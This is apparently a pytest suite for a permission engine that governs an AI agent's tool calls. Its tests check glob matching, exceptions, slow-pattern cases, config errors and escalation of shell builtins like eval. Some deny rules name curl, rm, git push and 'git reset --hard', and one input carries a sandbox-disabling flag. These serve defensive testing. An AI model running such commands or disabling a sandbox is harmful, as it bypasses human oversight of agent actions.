def test_a_program_is_denied_however_a_rule_spells_it_and_allowed_only_as_it_is_called(pattern: str) -> None:
    assert effect(f"[[rule]]\nallow = ['Bash']\n[[rule]]\ndeny = ['Bash({pattern})']", "Bash(curl a.com)") == "deny"
    verdict = "ask" if pattern.startswith("C") else "allow"
    assert effect(f"[[rule]]\nallow = ['Bash({pattern})']", "Bash(curl a.com)") == verdict


def test_a_program_with_a_space_in_its_name_can_be_denied() -> None:
    assert effect("""[[rule]]\ndeny = ['Bash("my tool" *)']""", "Bash('my tool' --now)") == "deny"


@pytest.mark.parametrize(
    ("pattern", "meant"),
    [
        ("Bash(echo " + 60 * "*" + "b)", "Bash(echo " + "a" * 19_000 + ")"),
        ("Bash(echo " + 60 * "*a" + "b)", "Bash(echo " + "a" * 19_000 + ")"),
        ("Bash(echo " + 60 * "a * " + "b)", "Bash(echo " + "a " * 9_000 + ")"),
        ("Read(" + 60 * "**a" + "**b)", "Read(" + "a" * 4_000 + ")"),
        ("Read(" + 60 * "*a" + "*b)", "Read(" + "a" * 250 + ")"),
        ("Read(" + 60 * "**/a*a*/" + "b)", "Read(" + "aa/" * 1_300 + "a)"),
        ("mcp__a__" + 60 * "*a" + "b", "mcp__a__" + "a" * 4_000),
    ],
)
def test_a_rule_with_many_stars_is_looked_at_as_quickly_as_any_other(pattern: str, meant: str) -> None:
    """Whoever wrote a repository writes such rules, and what they deny counts before anybody trusts them."""
    begun = time.process_time()
    assert effect(f'[[rule]]\ndeny = ["{pattern}"]', meant) == "ask"
    assert time.process_time() - begun < 10


@pytest.mark.parametrize("sign", "[{$~*?=")
def test_a_word_of_many_signs_is_looked_at_as_quickly_as_any_other(sign: str) -> None:
    begun = time.process_time()
    effect('[[rule]]\nallow = ["Bash(echo *)"]', f"Bash(echo '{sign * 19_000}' \\{sign * 400})")
    assert time.process_time() - begun < 10


def test_a_line_that_is_too_long_to_be_looked_at_is_asked() -> None:
    rule = '[[rule]]\nallow = ["Bash(echo *)"]'
    assert effect(rule, f"Bash(echo {'a' * 19_995})") == "allow"
    assert effect(rule, f"Bash(echo {'a' * 19_996})") == "ask"


@pytest.mark.parametrize("meant", ["Edit(~/notes/a.md)", "Edit(//srv/a.md)", "Edit(/srv/a.md)"])
def test_an_example_is_spelt_as_the_pattern_that_means_it(meant: str) -> None:
    rule = f'[[rule]]\nallow = ["Edit(~/notes/**)", "Edit(//srv/**)"]\nmatch = ["{meant}"]'
    assert (faults(rule), effect(rule, meant)) == ([], "allow")


@pytest.mark.parametrize(
    ("pattern", "words", "is_meant"),
    [
        ("a*git push", "aGITgit push", True),
        ("*git push", "gitgit push", True),
        ("a*b*c", "abc", True),
        ("a*b*c", "acb", False),
        ("a*ab", "ab", False),
        ("a *b", "a b", True),
        ("a **", "a", False),
        ("a*", "A-B", True),
        ("a b*", "A  bx", True),
        ("a b*", "A Bx", False),
    ],
)
def test_stars_of_a_command_stand_for_anything(pattern: str, words: str, is_meant: bool) -> None:
    assert effect(f"[[rule]]\ndeny = ['Bash({pattern})']", f"Bash({words})") == ("deny" if is_meant else "ask")


@pytest.mark.parametrize(
    ("pattern", "path", "is_meant"),
    [
        ("src/**/*.py", "src/a.py", True),
        ("src/**/*.py", "src/a/b/c.py", True),
        ("src/**/*.py", "src/a/b/c.pyc", False),
        ("src/*/a", "src/b/c/a", False),
        ("src/a?c", "src/a/c", False),
        ("src/a?c", "src/ABC", True),
        ("**/a/**/b", "x/a/b", True),
        ("**/a/**/b", "x/a/y/a/z/b/below", True),
        ("**/a/**/b", "xa/b", False),
        ("/**a/b", "xa/b", True),
        ("src/**", "src", True),
        ("a*b", "x/aab/y", True),
    ],
)
def test_stars_of_a_path_stand_for_what_the_documents_say(pattern: str, path: str, is_meant: bool) -> None:
    assert effect(f"[[rule]]\ndeny = ['Read({pattern})']", f"Read({path})") == ("deny" if is_meant else "ask")


def test_an_exception_belongs_to_its_rule_alone() -> None:
    rules = '[[rule]]\nask = ["Bash(git *)"]\nexcept = ["Bash(git status *)"]\n[[rule]]\nallow = ["Bash(git *)"]'
    assert effect(rules, "Bash(git status)") == "allow"
    assert effect(rules, "Bash(git log)") == "ask"
    assert effect(rules, "Bash(git status && git log)") == "ask"
    assert effect(rules + '\n[[rule]]\ndeny = ["Bash(git status *)"]', "Bash(git status)") == "deny"
    forbidding = '[[rule]]\ndeny = ["Bash(git push *)"]\nexcept = ["Bash(git push origin dev *)"]'
    lines = ("git push origin dev", "git push origin", "git push origin dev $MORE", "git push origin dev > $FILE")
    assert [effect(forbidding, f"Bash({line})") for line in lines] == ["ask", "deny", "deny", "deny"]
    listing = '[[rule]]\ndeny = ["Bash"]\nexcept = ["Bash(ls *)"]'
    for line, verdict in (("ls && ls src", "ask"), ("ls && rm x", "deny"), ("rm x && ls", "deny")):
        assert effect(listing, f"Bash({line})") == verdict, line
    narrow = '[[rule]]\nallow = ["Bash(git *)"]\nexcept = ["Bash(git push *)", "Bash(git reset --hard *)"]'
    assert effect(narrow, "Bash(git log)") == "allow"
    for line in ("git push", "git -C x push", "git log; git push", 'git "push"', "git push --force"):
        assert effect(narrow, f"Bash({line})") == "ask", line


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[[rule]]\nallow = [", ":2"),
        ("[[rule]]\nallow = []", ":2: allow: it must be a list of texts"),
        ("[[rule]]\nallow = 'ls'", ":2: allow: it must be a list"),
        ('[[rule]]\nallow = ["ls("]', ':2: allow: "ls(" cannot be understood'),
        ('[[rule]]\nallow = ["Bash()"]', "nothing in the brackets"),
        ('[[rule]]\nallow = ["Agent(x)"]', "nothing is known of what stands in the brackets"),
        ('[[rule]]\nallow = ["mcp__x__y(z)"]', "nothing is known"),
        ('[[rule]]\ndeny = ["Bahs(curl *)"]', "in the brackets of Bahs; write Bash, if you mean that"),
        ('[[rule]]\nallow = ["Read([a]x)"]', "in a path"),
        ('[[rule]]\nallow = ["Read(../x)"]', "in a path"),
        ('[[rule]]\nallow = ["WebFetch(https://x)"]', "WebFetch(domain:example.com)"),
        ('[[rule]]\nallow = ["Bash(* --version)"]', "would allow any program"),
        ("[[rule]]\nallow = ['Bash(git \"x)']", "quotes are not closed"),
        ('[[rule]]\nallow = ["x"]\ndeny = ["y"]', ":1: a rule has exactly one of allow, ask and deny"),
        ("[[rule]]\nbecause = 'x'", ":1: a rule has exactly one"),
        ('\n\n[[rule]]\nallow = ["x"]\nbecuase = "y"', ":5: becuase: this key is not known. Did you mean because?"),
        ('rules = []\n[[rule]]\nallow = ["x"]', ":1: rules: this key is not known. Did you mean rule?"),
        ('[[rule]]\nallow = ["x"]\nneed = 2', ":3: need: only a rule that asks can have it"),
        *((f'[[rule]]\nask = ["x"]\nneed = {need}', ":3: need: it is") for need in ('"2"', "0", "-1", "101", "true")),
        ('[[rule]]\nask = ["x"]\napprovers = ["@nobody"]', 'there is no group "nobody"'),
        ('[[rule]]\nask = ["x"]\ntimeout = "soon"', ":3: timeout: it is"),
        ('[[rule]]\nask = ["x"]\nwhen = { os = "linux" }', ":3: when: it is"),
        ('[[rule]]\nask = ["x"]\nwhen = { sandbox = "all" }', "sandbox one of none"),
        ('[[rule]]\nask = ["x"]\nwhen = { project = "shop" }', "from the root or from your home"),
        ('[[rule]]\ndeny = ["Bash(rm *)"]\nmatch = ["Bash(ls)"]', ':3: match: "Bash(ls)" does not match this rule'),
        (
            '[[rule]]\nallow = ["Bash(ls *)"]\nnot_match = ["Bash(ls x)"]',
            ':3: not_match: "Bash(ls x)" matches this rule',
        ),
        ('[[rule]]\nallow = ["Bash(ls *)"]\nmatch = ["Bash(ls > x)"]', "does not match"),
        ("rule = 1", ":1: rule: rules are written as"),
        ("groups = 1", ":1: groups: it must be a table"),
    ],
)
def test_a_fault_names_the_file_the_line_and_the_key(text: str, said: str) -> None:
    (fault, *_) = faults(text)
    assert fault.startswith("/etc/sayso/rules.toml")
    assert said in fault


def test_a_file_with_a_fault_gives_no_rule_and_everything_is_asked_but_what_others_deny() -> None:
    broken = read('[[rule]]\nallow = ["Bash(ls *)"]\n[[rule]]\nallow = 1')
    assert broken.rules == ()
    good = read_rules(
        b'[[rule]]\nallow = ["Bash(ls *)"]\n[[rule]]\ndeny = ["Bash(rm *)"]', Path("/x"), RuleLevel.PERSON
    )
    book, ground = RuleBook([broken, good]), Ground(leads_to=os.path.normpath)
    for meant, verdict in (("Bash(ls)", "ask"), ("Bash(rm x)", "deny")):
        assert book.judge(use_of(example(meant, "/srv"), ground), Circumstances(project="/srv")).effect == verdict


def test_a_group_without_people_is_nobody_and_not_anybody() -> None:
    (rule,) = read('[groups]\nrelease = []\n[[rule]]\nask = ["x"]\napprovers = ["@release"]').rules
    assert (rule.approvers.names, rule.approvers.is_anyone) == (("@release",), False)


def test_what_is_allowed_in_a_folder_is_not_allowed_below_it_to_what_looks_there() -> None:
    rules = '[[rule]]\nallow = ["Read(src/*)", "Grep(logs/*)", "Read(docs/**)"]'
    meant = ("Read(src/a)", "Grep(src/a)", "Glob(src/a)", "Grep(logs/a)", "Grep(docs/a)")
    assert [effect(rules, each) for each in meant] == ["allow", "ask", "ask", "ask", "allow"]


@pytest.mark.parametrize("name", ["stdin", "files", "environment", "first", "steps"])
def test_a_command_that_is_allowed_by_its_words_is_asked_where_there_is_more_to_it(name: str) -> None:
    more = {"first": [{"argv": ["x"]}], "steps": [{"tool": "deploy", "data": {"argv": ["./deploy.sh"]}}]}
    ground, where = Ground(leads_to=os.path.normpath), Circumstances(project="/srv")
    book = RuleBook([read('[[rule]]\nallow = ["deploy(./deploy.sh *)"]')])
    for data, verdict in (({}, "allow"), ({name: more.get(name, {"PATH": "/x"})}, "ask")):
        action = {"kind": "command", "tool": "deploy", "folder": "/srv", "data": {"argv": ["./deploy.sh"], **data}}
        assert book.judge(use_of(action, ground), where).effect == verdict


def test_a_file_that_a_link_leads_to_is_the_one_that_would_be_changed() -> None:
    book, ground = RuleBook([read('[[rule]]\nallow = ["Edit(src/**)"]')]), Ground(leads_to=os.path.normpath)
    for real, verdict in (("/srv/src/a", "allow"), ("/srv/infra/a", "ask")):
        data = {"input": {"file_path": "src/a"}, "file": {"path": real}}
        action = {"kind": "edit", "tool": "Edit", "folder": "/srv", "data": data}
        assert book.judge(use_of(action, ground), Circumstances(project="/srv")).effect == verdict


@pytest.mark.parametrize(
    "name", ["eval", "source", ".", "alias", "trap", "set", "export", "declare", "unset", "hash", "enable", "coproc"]
)
def test_what_changes_the_meaning_of_other_words_is_asked(name: str) -> None:
    assert effect(f'[[rule]]\nallow = ["Bash({name} *)"]', f"Bash({name} x)") == "ask"


def test_an_input_that_rules_know_nothing_of_is_asked() -> None:
    book, ground = RuleBook([read('[[rule]]\nallow = ["Bash(ls *)"]')]), Ground(leads_to=os.path.normpath)
    for more, verdict in (({"description": "x"}, "allow"), ({"dangerouslyDisableSandbox": True}, "ask")):
        action = {"kind": "shell", "tool": "Bash", "folder": "/srv", "data": {"input": {"command": "ls", **more}}}
        assert book.judge(use_of(action, ground), Circumstances(project="/srv")).effect == verdict
